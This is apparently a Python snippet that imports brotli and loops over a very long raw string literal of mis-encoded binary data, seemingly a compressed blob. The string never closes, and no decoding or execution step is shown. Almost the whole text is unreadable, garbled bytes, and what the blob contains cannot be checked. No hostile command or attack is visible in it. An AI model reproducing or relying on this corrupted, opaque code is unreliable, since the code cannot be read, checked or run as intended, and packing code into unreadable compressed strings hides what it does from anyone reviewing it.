import brotli
n=a=0;b=1
for c in r''''~ǇqA]QhދXCPƫD>*Ib&>{bl]g_*ϱcy;gN!and
0?ɔݖN'wݞ+x0rn7_˅H)]L	I3q=sV.l4dWtNPx+̰;GH1ƈ'A{}bPI
PzAEn=4l@re4*da$>өKq3bޛF*G"HxXӕ ͔UJ@~.8σQ9ќ\B+'R?pFRU|.f)cuՓ&-p&o~Eq)7c^Q`J&
|K7vZiS4Q;Jo6Xk:	BxzO!sҫWM;~
<%2#+j6I:=*2ҺADsː8d:/%rQiO'B=xAӖ


$żY^gmЭ?10UKզ]@18>8ޘ%L,sVer8qPImgC*D{/H}лXќ)0A_G!Ͽ΄oEb!8Ű`>?0s/
U7T4;>xLϼvژOA<T3D¦vy>nsW;`?amr|;ԛYٵ̚Xгb#{_zL-8>҈
*!Y޽p|%	2=Y@[*@H:a?ϕR7%1~5@N|GÀ`TerU8[	7tj68Kcг֧\Ckh{Tw#^$o47=Np׏p|I>Jqh^ƥ;K?8%ĺX9Ƣ:ό^R˪9 9Dq͠m]*ŸyTNTBp2,l9<E59A-gڋePNWH6=Ƅۓ+fs/S̖JQhI,֙CxDM	?{r-E3yw1+U|`׵s)?cEǾLLˈal"#rzMt|%a"4(%~v@EcݢP	B>`"S#&ɜ
MJ9دL?F̀g\ԒpxcV(  1˼|d:;qs{zǇ\51^ EI"+L:rޞ̆K*Bz7h'_<^̬vrվ_GiCpk2i?]4ۺf%J.q	"ڹI!/:CO7Kw7kAfda0,{tyC,WwX׬߱̔xh%F*15F(IŻTN
t2g7fCpp5&ܳ~!Qmyx:-fɆ%4s,7@wC{Aח[Ocf߱*AOFܟw&E]0
zqD-IQpAٜbr'bmǨϽeҷd)yFҸ|4ḷUmHǫ0YuC41QIwփ\ u{'}.;~H[5f?+M̫ΜRѷ6ܛǟ*H]mF3-eŦ	^ wz9aޓBkoϧիxxDUޢ/`G4 Í7P{b55Z:H5*۟pz	.6ޗ;w3
ۄW]~"KP
Xhʤ0YJW/JPǲ>,g>"	ݤY'Ǹ!>nqe%{U.6jLY,2'jޛ}]A+ƇXֿ+Lȑs1߀lăObxǜ~S})i7fUgee߼JQ|Ƙת֔MEJd!P˂Pw<ܛ<)õ.{EDs(oE=8P$Lf=
D'BMܕr0,({-ڌìų?1;N+gRqqa,\P{c-`W6Zl/<R==<U<?x6xX/p'(ƸIՋzFt0]v*z7w$*T^[.`JHHp4mmVK9SE6;|)C3{Z1CòՖRGT/9Zeԉ#?$8RO$\	g$%n>MJ9cBYAEr" Jtv5*(t>4|o$x%emGsOHY Uͨn,pF05v=v.'(:ICKZ<//:b}8K_=8itvaWaI/*9G2Q9Zc|fY}ΦCwEw~aq`սU@]2tіЕVfaVђ^;{@=9$I\z#[s1z ^JN/9=Զtڗs_wV9}=|hI5"\sϜّ`rߒ{!+2nQ_20WSyܕmͰDZ*m21Iy{aXȳHy[T
Q+#A?+]/=kݤ2g5EåQ|~ˑƨZе(xϚpܻ\pof`ncO9hU9BqkUǪ=ZtfK]= vpqU՟9֋_7,&s~w)$Lb<F6sXmC^Kҳmw=?8ڶiA4HN{^-t"?ťiXUН@Uf>1>D3^Xσ6PM6@6߂/i/_q]r'1dr޴ތ(<~_RI٪E7:!)<_(B?"x-kvujfސ.бg˙i:Mw
Ŷ^x$4xݏs43+δ˙--ύ565=.<G;9APdOƙkM8Ӳm;B-g?ב\3<:ng9ҵ1Iؐ2>:	Re9_wK6}I;5{Mf.fh	e c
[\Sś֋˰۩K{~8ZS?$e"I?
ϑӔ8\	bw?ڪY)̐W\1΁q0	m{&{c?qc.x?ɜNT(~US%U2/2Iw+ȮrӖfY!VItbJr+1^H+" ЊwepsrN̺&	Vy{8BKxxh>6:I~3*lÜG*ڜ6GZG$s[ky~dna~\۽Rx>:Oae])dv$J>xGnnEo:CD|q%R$?|Y|P4 ~Sƕ+I7C*DMKk%UOU&`HK%^x!bj':(#\˳tFtݝ|Y*z5fC;7D9bPRtڮ3q߆ҼϓJ fwe.ΫD\vIP-խ.--z7jn%RXOZWͶˢҵPwBhxqXDFU9^	JxXGNHaO<DYL1cŲŶΊP/tĥ^//.`[TgnjRS+̍z!*b|!44Uo?cqeǱDi5ReqH{T_*JhWZx')_ΖE;>zbV7v|7!Š˭h V9/2K%eӑ1\urv'+[~!`O]Eɍֿ'!t5}VXCV	Gـ$mmѪ21>Y0C59.8ۡyvܭWԠܰЙў;D}z2Q@w=gM7?x/7ˠte+G;<Mx@"7UŢY"S\X@^<5G]{oؐ(BcdܴUf!y9kh"_nxޙR ԕΛʋMD|.ՒԹDZ+W`[[qĖsȴ٩n*VU^9Cob;Bu3wYB'{4/[jqH'YںuEfO>ɆL1BYrl`"5X,JA\gu]^=tNF}#^/?YIjؒ]t
WߺS@bn(K"`ޕ&4'HѥW߿RՀQ+ta20-[PLN)ޓI
?"ņ@3:kmsys<w47!9y9e:k	e:%SjłL3XY4hEBӿ[5V4ܫ"ҜBTk$v+!8^ڊK-Rn"یPGNC"3JAU%R]\Ek-Cŕ/\"iE`	/͔;!s%-ɘ׸$0}ƫ%7ZeqhdѷńM%F,LkM`9Y(Yi"@h);CΆ<qq4:o֕}5l=<-%ELu5 &9Ve 0M	ղHilXۣ˰OUkǶV9cǁ>dlCe=ICճT?AX	-0N|:xϝ3bmn}
z*Za}4;vuߞAspL+ů,PP+)^>KKjyFS}w ge|3$2{úY!*8|xgLOMS	%6aWFD[Sv!Yǎk2o:;hR}q<Ȳ^S{˃hַͤ
/hb&&SC!>p.25{՞ķo<[?'"<B`l@jw 
)ˎt/>E`D1Mv@_&=2_"ЙVR5UM8,.mp͊)}Q4Q~kR]UY;'40؆^xw]C$A)p˹qsgƂșWV51zDT3"U5Cci۾jD+|U.: k=N`vu6tJuͧƛ=wjHE.B\T)Iz'a}ݺ/I]~ϸu28}Q|k\3|ܣF?^q`E30*lUDKd41	О|ac
~d(/)&Ų_&j
^tOsDOoޚKŋ`.Iz2d)zo'@Eaǲ־MhWXՏg
?
Jy=۠@¶3ɯqɔQjمb4rBuz2curr%ˢ}r2,1;a]8Kw3i	a2h`<ΊJ2}@hJ'ۼmt-Sd oebdA!eŧL(YӚyWr<3Ҫ^?H4Ӆ1*);Hwbb#=NDnmByZ#U0\S)L7q	^y&#Q(Ӗom1#G\:#l5ț"*<٠_rJHرѨD
Lש]@K5B_8ha:LF1ػځ_C+B4z3jQn4#NޢJʛvڙ48K)Vfiĩoxe٤3WpXBƋjEK}Bt2˾1Ǭl8ґD'>ZƑll1c?9ϣnʙ˧ r`¥j>vR~i-ɗݡFA&֗6r$چ܍["B}EtgC+@0fuaԘ-;# FHDʄ(޸_(@"H;ϰL@}޳i6K	'BV?۲c(NVZ<ނ!wVI=mUoL1jقȢ#RSdfVX@L#cCQN.{}Z'3Z(R0UTj~#ؔЖU}Gz]@ψnT=yɕ>UٳsxK
,
B:TV6PmذPRөzKw]J7˹t@5ap0oiTohÁ+m;ę6Պ[&JjF3N_>]sU٧<.XHG}R\l}ʼ?4|TvDUV-+Dk.RܱØКPGRɯW:&wΨ^̱[ń|\of)gjo4Ǡ4ܵ"޵sc³ٱ?0X!1ح%Nʽs}vGن,K "V~ְkțU xpuTg-ى!Ij1A437V~]HK43pg	q&sjpH`'fӂh[6@S_H`Opa(݋`[lKJ^q?k	أOpd_d;Le&n߁pYgۭQMf5[fۢx>tO_IADnHaݟ:;X00FL!վ~jҾ	$gGگn2SY^m^GНv6ÐD?9w ŋq.Eۛ{w3Xnaz"׮Ds,=|KwgֲUCt[SF$gȴ]EUfI@ظu >צg

/On#4'e_nt{Ľ`]$92qOpfwFiI@8kfo	*HCk]"jr?cY٨˭M<3^6&SCZ/5d84!]AݍCП0~m8s;14[:qru5gTSM%i11s0md۽"0qc8
-0	1mrrMZJ=@(2<*ͭ|JEhЍqfԉDS$վ"##OYN1cܹ9*˧b[мvva۴x0v$S&tœAƋßeɆ$+r) %E"`zzZGUO-b5Y_<P6VV"0Go)6zY)Dź@l6*pҹ,LbƗb*.ʫ y_zu)7.aMf(,/S>?qynNƸP;~xF>Tߚ$g6Yz)O]҉uCmћ>~v#ՔHzTi)*d}ާbVX8A&B/0oHoc,ECgtelQ%k>+i7Yt|m7U?QO?]xTd6Z߿M	;kɊ0{Nkʌ;)J!G)I$%
\\hɾ\1Ǆk%KI~+̡t]UT:.#=ff=ղ4ٚ
)/0'	zyW`8:^э,*H`GxgLs&W':2JsYËހȠ܍t\Tc8R %az+;݄o	X24LUs66kXG6g@l7*1#z"5Ȏ3`HTO)/$oط0'y\/pWB3dI_<wlw
Y:Ì\,͑׷Ю|OBԴ{Y1n3"h~-Ϋ}ZJ?1ʭ+0=Wx[QLzU<iyW̗<:DZ̦vYT\!+Ua޽R!pE!3vF	.rҎ_n/(M~X [
Ȅrj2jo+TR})̀ǧqq0p}>VQLIk	vJb߹X4peфV۽Z![*9֊PCY~},m=HRY]}ͣF%h}n҅Xow)d^aƏM>CUȑMZM@Ԁ,@Ґ >T@#ܔ=*ˬ$U+n2>9SjWvnJǬ@Ѯ=/>?.hWo&KLݏ{YJ/\:-ۿ0ɀ._ٴ^EB8ƖM?T_@I
wKܤ~Q8v@}oܨ*ĽiEr:m6iS\Pe
vl.ʈN> L.hOCc}px4Ӆia`i?\ېhd*"=tu%ÆB>-<5x8mO
T~C~qЅɳ?k5LCL~RVA5}-rF&X^@x۽rinDv;og,TiŹ|]L@4Ȕ3à	Bŵ2
0dl-?9SmQ(SeK=p2I[lkP#(`2:7ybPƗ-WEvbz%P|7q26ֈ'5HٓŜ֑_i.tݓz¬g7!ۙXI
Ȧd9gָRrP^gMֹs	&5?tԒvS85ٕџem>lC#Y1booncӝzhAiϓ-N7_3?"2Ű;o^n4[*dC5U[zYؗBC}(7^b΁wqD,"EB1]m՛V4/̷pϓ%MA[l\Օ>Lz!AĊA&/ߩGwݡ8bo':YEN	۳߰;wR{[ipU֫	r%'+~`1:4NokkBXpW=0wGVMXjLGfV%&yNQ2~|Q
"ˎ:u϶mDP
}'aH/Br	'Oޔr#~ήvj)^LBu]oa]14?/*4ٷІo>0V۶%jϔ\ө)fk̽]%.[pC! NKiL|>hj{rF=W7*zʩtMaN<6KNI[E'ahǐNpi݄>ӹڽ9?-LhʗlߞFqo8чCpi2L	-Ɖ{ohb1i\ȱ[ҫpŌ{51UКMɼ|qZtn$G4
$:@chkl@\ن	|KM~>{%ѥpNs$6M\_6Ð~Ŏ{πz4KO׋ѐ/ks&}\R0.۹=;jf{9͕SuPr50)a# ɝHQ$RK*n*)c܃/@~ѠYL|/^0vL?.ܴj=AH0;]}<'/':4n.ef;_Q^ێ?g|$*xp>fB;ϧ5׎eʷ?Ȝ6h&wBxi0,M8gPEߛgAkb'};+}u2r6'(&`$!\(	YՍ89&:fʄ uv?V~SAA"¿fz6Tߨ<\}rx$ÆKe:kPLԗ܈B0QWHu=d]`|˅p[H=8˂|pT9ʬ%wЊLTF+yYzDGa0Q-˫SܼS;gх̩,eQ|Z"˴ļd4e>: %YaАynD69eF&^b#ԞX,XhVS?{Y5LiІ38(Ǫi/oKINʷ!,L$;)Y$E)5)G%cRNʚݣoqLnPQSÃsb[Kr2T׆bԐ1LrhIQHzω~#8>t&=76./Rs!_{4¶9ŵE3@3.xUd kIƛHwknϦW#Uioծ+(90CO?92}euW3$J۸XXqRYo6.(|ؕZxPc62(BzPq#O](xҡи{Dނ͝]\Z]ghc.vFNJ"r{O1ѷ͇8v$lӬAu)M`*xKqȳ~.ÁJ$+2ȇz	i}LH?}tוq֞vts$q_C|C;٥w*ho˩3Eؑ0]׻7qՖҞHI]"ʐc!@~Ԋd`i6Rxʓ.?$Ղ3f~Vi*dR8R]Dܨ{	3$n+sG{Q+o=ff4I8/ɫC=wx:p%M܊݊iM_:O`V(h3nh #ػm2B9k~V΃8ڀw1Ucf</~}@MOu~xKU\Hi'=Re,ivg[ H`g56l$y8٧ó;1eRb)h(DSV~hU8llw1%9@kSr>_6C!կ'	D^LԉuRfM>d.̍ɭWĔ{XgJ'ɞB 9As!pp^ET͏|gX&}pR|'0VRݥbE};]zˤےAʒTJpH?=uo#Cǧpq`{/sdֻԌk
rCaȦAAuK%3i*$<ŉe,c^~+@g2pg6DY˲W((OHأ'ߒ¨n?=HӤNZt6BIShzt-R^Wk?	e%*Ä0Q>tfcxj5B<s=a_	׼`/o9ٙW!JiJcxN\x/LE8vREǘȭ^Nwԟ&;c$B#3wpl;pSKbvʋ]wY`2eHh\$\u`ђ7N~ld-Wi!:$y	j6Czc+E1|uhcr=]F*FjTȇpm4j.V% &G~4b3+6_3
`ڞU->TX,WBY&4ŦKII7؈|C9ޗVwzşn6[	gn QBfgDޯ;5*ajle\l˕xئ	65j)k:Z]A)*W.7
3)âlÔ1$(rd"={̼L
T?!C1jf!C-M?ճى|#f<k*	sğ')!OVqS<Ud΅Uܠw}WFȦ\%֠Ux$i"<<BM[_-zl%hq/-~hD+u1HܘTծ'40{rnxk;8Gc-	oeqWI=n@4O;k(ueQunZT!SnGAqi]ݐ/tY¹ʻy1(,sʝ^NYW4Um/R>;jTy,¿sQ4VvŽȹXc&jQ	4xQe]#l6vQ͘Xi˳
!A,ܞRNu(Ve&Iuywfȿgs'ܖ+bmby
gPK'S4J@:({Tm
1\<0d¹Cg' )(Cg4=kOjDF8F*TU%A׍KP+@=ٙeZBˡʈ$(V-c˹_@/&s֥ Dx(z\KɁ]6`=2z(Y+<|RqKuֵ@Xݑ:WHi"#3s>|)o"h^6c>Q8֑vO5Eq mnF`t8	VK	pUd33w$I#ۊI*̜RJ3O:Hw~_{6)[>j7fڡwa3aOضqx?bϘ:zcwzT{U'mLs**Ng|1ʆ9>k.FvEտ׳A=l.اo؏/+.
e:'}6qiڢn;;IM!dg2rЬƃUvִ0Ȯmsn	]Nĥx
s2؊0N?l)&%C֩WQ7|WPňƧ~ǵmՌN0JT+:w_8Z'ؚeΚUm_*A'MԉNA92&wHf	]rMvZ'b
R% h,&q$5Pga*Oj`TI}ѹ4N"ƽFlGjFeQw;ETN	C
lˏ»%ݗq0s߁L:1m%β#RlǆEg`fh٭uh$&'2#nD8SVw6HW0۔4Qˀ
c,"zұ"b4&:wȮl:nLB+y8z	aa_5$5_ϸ+f&#˙r[,QқkogZGmD][p}^awVGTUhD۹Ʋ_kO$1ӍO&x..Ff}YH!6Ѽq8]TۻM{0͸U3\^3ݑݲV͜{Չ~yhsZ:4Î[P%_Ų2ք]!T|Jf!vK"waeUd(m&7Ca&ukWz2W4FFY/^e٩geFЎ]0[+4@jdh/1uQuɶlb*
geZ}ͩ==r
?j|Шܚ^R^W^<z[Ҫ1ar0\:[h֘O?	+od/z4u	rxwWݥ_rߕ?1Nά'k$_cʒ% NQg'6*enS9eZqV}TC'Qy/Eax
ۣϟN;weSLWAپo!Ą.scO
cjSJߡo."]ԱNXR+!*U:vHTJ11\SOkv?WnI?9b(˵/׃E	TF2!](,7+G9VǪuÎPu\Б/8Lq{ݻPzsQ|ɂ+OB;X[%s1N8q8׎O;v0iNSߕߋf>{
)Nyz{Vh<la]rh.-|)a0m(<	
qWA?k>q)Ђ3>ԵzѪ\~^>$&BXH,Q3`sb/W4`x88G/`\[ϔ׶Aw&R>f`l	jgǙk&1m?f`,IS#<,Tۛ B[g̈͸Upғu{kűӏA{JEJLwQ`+e߈R]OM4fcaXu?be{<q=tj\[6{Z.Ð5 d!-0`Xb/JbyҭΚ~qF<C`!brtǍοVSdͦ<2'2D-:pVےѱ"FPV1MԯJЇp5.LVڏ.ݒgfF8M
*qĻ*O#1TFh%1v
¸/TrlqŊ6w)+?R%DIMK͢m1)kH҃]qρHm\CrdVIY=*֒'ѫi#rwnxկtl=R<4 D7C*
WuFw/Y>r7hT_OD<U12Jj4/u	X=ދ.E/d98j<s /Tki-ШC>?}ʾkԬ.c#٩*d/yWϸ&7Ԃ	k(?=}4!ƬA`qՑ|;g8=;7eÇ'\Ϧ5c%r]{WDbkRRQLx.{:>X?z${W4Zт1p!ǔPdNɍg{JOqn܂Xcf^2ɋI |:_/hUƂ3;O9L\*:tW.^ץuel־{%)]I
׫S0`Su(` I]&zt)_i4Xpp6gx׌=nMiFZfRPS6bnF`	 mi1)w1`i߫_I?FKxQLQ[c;ò@yHZvg{olREh)@U1\8*6U#ӄĴ4RVHzu;uDB#=*ƽ&20Vd?y*C$>q<E1{E]Nf׺+bЌLND'i;"qgg/e1į|}Pؑkurƾ=®ٮ	-z$Ag	Dd\ÜC.CeVS6˾{G&jߒĎOj"<#BjIS^iGP0VcSĒbt3zxVm(	qcߣzXZVy6rDD6{"FҗOy27܏
5,AmE#/p5`E8u
1	2۱X@ȁ^rs'9@KĉvVڲWkc	'+H
Z(Il9ւp5	U>nύI*lCjYKeuAX4\CڃΉ] Qt/8 ,uTnR>{kLȩ1{1{̝eBf2LϸP3EN,oAʧT܎^6";TC д^&%˽f`vЮ:uOp{QoNm @ )uHQHZ*x܈6T՛чHޗyy&'y#$8-!ӏpDJO6'ey'US')DO> fpYF̧pb?/+8u@@`'0\,1Kh@A=6ޡh""/=><u6W=]Q1x6Uh&߼]k~L&Q=ɣdvh14/QlB\Q	etGWE39YGkŖϰh*Zn?1Gq:TѪJ5(e8/8@bTGǥ6UگӾIy!n#VQ5X~+X58VÇޘJY`uy6=#uk@veCi4<ms G/($OE>μ?1Z%oׂf_oٮeb'
ؼ<ZHm[s҅bDUg±8c21dxae
x1а%Kqݕjb&	ɦ8?߯b5g4?4[RN0A<B%_;@
ϱj2L;E^BINO.	u%4AXϩjt '+zuȹ@̈́+f|qWiť}VFތMBIа%yb>8aRo;ʅ.bpO1G69f8	Oצ!ZZG<Qi@ЦfP[_pA	]vLַ'UhúlPqغ>9ֱZO-Y*T[RrLAhEL3iV+Bj_a/ū,Pm +JǰWG3t%?݆3Y½ӆlHhs/.ϟzTeĉ]:-3cEl_>@u>ɗ^t	~otQ'=fA΂ _S!DR^ޙL~Y՜Fp]4uְD]<eEEgHQ)E4nc@MUy1r*MHs*WY<f9ۭj
|,!۠9mYsR6ЁrɜP)G_R=T;ÐC9UB|ޒmgOP'SW$۫8"|'rS9@;=F	}Kd0Ie7j\)ɅXjO=;ۘ9͈9pd͕7S2ɂڳÇDlԏD[*)&(Z`ßn2\OŠ[
)r%ürv/F3BVЛ),HئMGiH)7UL7ьpQÙým_͡/U9>fQTWQOAtݰ`Y1KS5q2t{knF)R&8^_0#"|7w$\(}}JC98ͮ4Geɵ]ʤj\o]z*ܚ6VH~4:Po8OhI<AȐCHF[`=x?D֭ν1b!F?WѤU[:Lxζ5Rގwǡb'+%	]/FV=``b_jm?wҵXIbaBA'xΙ>[q/,~Zjcxwː}M$Fm|غwĬ
,	Yd>?u1AʪdĪ)AkfyŮigb5RBlI3ւ\7Fa1mkU	ԴZ<tի:cfF)kӟ9;У7udOxu_s
yL@[YÕ~dQ3)2Hp@eȴrű(dXx~"@W+"d5*+Ϭ <%Q18əjJO:Sۏ
hL:Iʸ\6ͨxm)w/2mĉCNekj*A?NΧҫSIJ1?a!g=6nA_6sa٬#&yp~FX?ێ߱~{lrIRMȣ)LX:Vr\J	hw5{SoahYQV:5Fu֤h5eT0AR:c¾O/ĵ4{9עQtd0Ǫ|jCh4ٖգ݋SwGqeBZӱiմ˒3}S8}K-i:?ȕkGҶ|!Q{*^
QMÿ56~UfSSD520U$72F_̰fݶ?b[K/NS]<Dw*ƣ}F٪0)(mPndhyxuXִCJ۰,iė=(8-K)iwM߳m֐>+͜ҢĶxB]$Mjj1ԿMT۶9WB+j0~N+eB`܈G<w8YeY.6D;QՅʐ0>GKѴ&pɞQwq#޿n'<֮ӻ!
	#DAݬmji9Φ+duJ6MٵEب6yzlڡ=@5O^}vz'3I4}QX,WEtZiH^}HEy@_a#:ڟ:A"G_a{N,h.NZ]{mk,*;7BvPMUOyuP؆+'L2&FN0ݓD=O@`@enu{'WbT٧~EC
 ["+3[!0>kĿ=ѬDԑ0.ϓsSY&wiۅKޗ%&p_^!TF8fTY(m٩'P8ԀDE'1+[<+7Fr|H&`0d7;Ҕƫ80TC/m-r/h%>
<hp>ݳP4{N+*dvȋ?|^*|ߐd]o2	K>W
A|k	Ϝn5*ѵ7JӇbmKwiK
B+D7ba3އJ#"Ç_zb,0|_X0Y8GQ	TlɃOfWScJ'`bX($&omnT2W\:,,s}?\qs83گ#_ov-zy8olڋ}WLܪ'v7$	&W`&ð(A&0["5CUZL(Dk׾%ӁӁ52;pF<^c6WևӮ)^t"%aȖ7QKҵu$*52JRe{ճVx8Wkbݦ˲műTcN28s@ |{Z2ţY@Ū.?/:8]Y9UC8MA,@@t.γؖсvv	ٹ^ڱ:[)ϱ47NZAX\ Zԋ5כ`BB0L>'g˖@S&#dJ"kqSB$]6;$>2CS#dͥ&#m¬7ajhcs-znлP~.ΊKcVXְ13koߒ@|11?ؙԐqFp̬ڱS'3#3ĔWМԷ֭KܷxCWљ-	X˖,c)JŗsǑl´ql2*3a	S2
ڂٴ},ELV1Ph=޴ɑߝyď9BxڠZ.eӑ|V>QTsüT?!ςo{<ݣ-
@=f&JJ6ɋonlW߮iMӑ^\IBwd$cn(FXŖo>?iE=-7Lv")uADtȯЯDVA
rgyaH\Ă1oDʙ|*JȈ
sЫk6R\O;h;8x<c$ҙ* P:)ZX¨;&0!sۉWƪ	_A{Otג|	6GJ-ZZ{)RTۘo`@ű;3uYr+	SSM{fTԠw}@ԀYs]ƽHzkY}GX́M19_pH«C*TY{/_yQq?J%RZ>v~Mٰ>pf)an1]_D3wm>o|`^ݺ;Pr(&V,Ri[FRa16+,Pl)se1 5߭pvͣUXog]*,L3#۝`S;۵ڤ*kreաvϼLU؂vvQe/$%CRTpE*Ge)-Mڽgc1OZ
z`B &<6RwvUܚ]"&Â>-SPKr(D(-tZFܿ{zU3u<w[I"Z`>ɾ?~;4ȈOe:þa2 2S_NGR(.id|LpmQC>>
3o2#eեdvT'.@H<oˢ]1{@w}'	GasN*SӇrѢN41=xr[ת¢XpQ>PԢ-<t2,oMho@h-Zص9G=^د<Sx!GFm5%uLZY0cF^:EOɚKN>5_[ǌ3k4r({FAQF4`'w}%/Aћ1i`l-3Z۽ƴvp)Gs,cK6P9ԉqsOjcXٴH͞M?߁xƊAcJ%v
vj\Rœۦ%'`Za'@ʸ"r?_OwxԑӡG3MsBFOO?bX[ý΋=a2ϡ7;%C3	68~@/$qoΑu4d;I8"mg$5!Raa'vD=sIQ"78wdYڏ>AO%PE:ZWG[.m(h/\b^qǴ4ןZ/ˬЅTA]S\̹S6Et>.páPC۟nY~%?7,jLo2P\Zyo?p~l2֞ФpW);M&!8ע4̅Gdp=EqcXԺS#v/%*1!!xwG_#[[μbl(p6Qvj¬x'z*AN^Ð0$)Cr
|ݯ\$hMy+ԞFڄ$7'o#҄D̽ǽT%HoGW'#e{f!MpJ|BSЄbr"ԼSoӁf˪,SΑЯ %oy~à<jleśkڍ@,lnuoTS!97wٵlq$~">@6Muu:Ԩn77P-ǒ7Zd=ʜI̰e}NaEBJQpRFH<hkCF[I}ө9
Z[vsҔˣ[nPw%lFJ`Z^SpЀ(FZ2kS_IDKг٢N>oFJUl^_z+oqy)!"٩fϟdK\|;߯c
W	Q%9,
Cut	M4éټky
I-ȥ?ěv09e/ԷC#<1Ec[M½ϋC1wRQ)'Zfn$+Hj7wڪ])\e\>i>II2QS"_d!$a[΋Ά&$&CѨҮpEU@)OMًGnP/vhF^l׀Vf-zP"D;[OpجW0TfcIh_{(UKi8R&I/?ϯ^Rۉ]^_wR=]l\f66Y1Q^NLL_O7,K[+0P`_b*pR6t+Vld>
btQ|'%ؖ	0&kO=P$ҋTJ,,^Ԟ7Ū**3&WS˻U^Ɲ%{ؘãRL.z)..??cj%[Ҽ[.5}BK&`ҟ_&+23PӜ
F2x_[ʠ
ۅ"Û(%ϫY>Ϥ=(lS",{_vq	L~ߐR(.
s|6IT0ȸSQ	ٷ܁ ׹X+Nѭ,I0bg3lǊMGXLHY#8ϐھL	M@ip*0LVzɻŁyCf܋~Yy4Uk6|ɬmءƱ5t͍x.a}[Rr6|'MX)$@qwH_h|6-z#^eTSҎOvی*m7G&}Rg.6ݛi^N2cH$T'ՂlRSi<nҠ՞Er^U&dA|u;7ϻwDobsT]Ƚq%XT!FuOI{t{_i
]%7-}+tЇ%~sMqK%+?)	/Kҟ{vQȄY|R/\޶Aּ-]a3+Mn$ Ų=N̨IOOô[ǀ{˹UOwMzEv~ߕЃ?!̌^*'2#'JFl|,%Nnq"W&7ݍ/;rVГ|%jclKTٕH,1q}qɱdVƔ{W!g:;^?fJhdwh<mx\svj<ԇ4idЗE1eȝq7EEj	}܌`Q=F|x$>rHǫQ9Z?/<lRZE%~%@>@y
BC.Vnю89wSi-^&߅Ep4_!Gܵ~#tm{{jI"Q'DߤuHG8J!y2ĤdS[U%`:BͥùN}.yݏxϿm͎xTN;8!M:oo4t.=NeiKCӪQŴ2)AǑ+Wt_6Pҧ:ې|"Ǌ(QSsL+"?ǟRUKw;WW;~άERoZpB9N|5 yKA̓_	<Ԗl:6OiTGMG}z=l60#1ڭM7ngDqET_;)%AH6X6nd;@0ٸ&!ľDeTõ<<!!p:̖|ȿ'SR8G0tLf/?þ#@^??ŉ)		ݪr>ә#y, A@|.cFΉ'k,"M}bU{Ρ3#X$HaEDK"ħ>h~M	l7"y+Na}8`fGlכ.Ѝ{gޝ/}f2ɵ<5pldPRIwVF׿[=,u;$Ji܁&ܳ@fĵ 	>XҜ'*N/'8Z}-ܟ`׶o(L6̍ԑ@c_|śL%ճ~ċgf#;+вMʘT@kBڪhe6U0;YֺDpnݙĔ~pb\΅Cnn\i=FXf"rbΤţTJrqz԰ة}/6T=?u\',[M݁a^1g;<uĮه>7b &<h%`W_3FHSb&Z;nDhپg	w՞JMWռ"Yͥelǫ&4:*֐PР:Ǯ\4EqB Xq=^V1N@ŗRwöp\^=*(Id^[	͓=U}{ubn%ͽ25(-9)h.#OJ:+9۩aVuW7Rd;!9}c	v<saca7FO4sPUHg!N/Y}meUPxbg*bouv~ΔEGs"{)WIrV2#=ԛ~2rFQ1.57	'\È[dǋmtƨ.=&lgО
M<ڶQt>ȬY.:#09~T?G_%jڣğYN
t\c;3UIhr޿vH߲%СS7S,]]bqM5W]$0BSU(ض"@˫1߰Խ@HgE5ƈ2lbaZCe}1&]D-)ęSƷP;=0(ϕIrNR4}~ނHN[I.T5ʉxsUNH&aA l	F:udʺ^?uBQ#٢AB'ӭU+D?WRK|sǅ	5X̓0&$w4J~r'BUٌ=\P!%~O[.ٽ)8+JW+T	f*u]c
3R>V{.b9((
˯$̡s)B'V'DpdUA_ޥm=&c6֟e8'[.7Yܽki7BԚwi{L'Qըyuq5lݟ"
ya.7u}X&5H3w	-,a<D;J8ƗԹ̙n.|F.
;UeN2gu-~A6m5+LjG	kiQO{V#XK۱
.!U8U"Ih9.p>Qy)'d։30u<޸tf\
MC
2iXϮٌ_`y5Vb^(bvݙȾ#ĳ\8
͛6rL]^ҳXVp#`O0F8j)5p]E4pxyQ6Fdx2ߏAD{-;tL#x@p$VHAqGSVAH+)hQXu`@ǿXy>26i{)ŕ^M\Wݴj<=)$~I^4' ]2<	\y=:4՟u<?E:OnU;8ʿl9αvwcqaAT^1WQkٛ>Ĝ|ʐK)&ۀ6M-3*TnK1/?k7yi*,9!ou:I0:~_d(/,4q,ҾԘ	.Ƌ[7fޅ~u;|@vws'iP#sՌV&	:okyλjQب`mx\!Q8fuڙ9!u/վy!ǢvS6(Q2X.݆t-ہ
a~@	y>\xrpdPݩo%8sʐqد%
u"-&۴dhzN[KTfg(olҨ^>k?}kmd-~	ON`Z֩O[@y#kˋi;Vg=˓n#/}xCQ׾KE}ޅ_xF313nFÐ>:VѦlS~<?X  2I6`meL^ɜAQOKm*ko}YDo/r}&A}HXEJ@<1N31Y]u/rtưߪ'4KkK,><̔9B73dW~K9&uQA=8or03+?jARw$Iڴ~$t+yuߦsN><IiJY9vXUP+ϱ-FVǝ12$D\!8qI?Igj0ľ_6ظ-px@\L~U@ؾE 0tނ7LDbe2%e1G.k+X;Ta'q\t9rڳ=tiniݻ9pxU835Z9bdoƼC:ϫw̆ni;$?>v yK[B֛}d6@iM>m&uȱ2DJ3֒K;n_2ʂ\=yȍ"Ҧcj:ĶlE$;PE	2+Rʺٛmʍ-AV߮
'lrd.&@иNWzGRT&Қ9m|_DUȖ="?ʣf)5K3v/{Dy>f\;v!]9S~V&I%"uD3-BnӆYAi0£Z~7iPQ+Bpń-}vl:}܆WrhNr_Mɲe8qxHsce.5]Qbag>125u !_..5ܐǉ4epGE"n.d:`B<_<Rp1#7jǎ[AeGd#YfaKg˪	xRW0X9K!BB"ԡѳ4	ӤJ$"b9Q_XCmƁODtҢR9o҈#cxsnɯza4KJlfcot<P[ոǄjw#c7(o>)4m~ɲ)MATQ6G slfw!u7Y]N(!ZxͲ1=~9Hu; q̨;qVة.
ɸSP*J*[yqτY2oav-YVtٻsyP2DZZ}FHwb8
"36H&Ҵ?Acn;Kq݃cJc)2L͈`:Bgؑ·ci$K_`ĉ4c(߰"7WfٶNJ#ёCujv,ֈOr8!5~krғPij<M<^&~tH)kLй3-І+T?kH
Lo%&fLL	vU?ZfPnϙ}Hg0B@7lfLSP@|i9r7z
Ϩ2פC ư<H@&Љǣ.-o8h-viqBC#JLV,ϗh\5 vڧ|s]SлP˝7æ4ǆ؅fΤ-N(+aʛĬ
{B>Pu/,H؜c\u?C,*Ķŉ&ЙgH0!K9[X7иh!mo_[4:\JAݱ۠ϥBGLxCR߮Dzim;aѲbG]FRC/\ݫ.@C[]ѼL
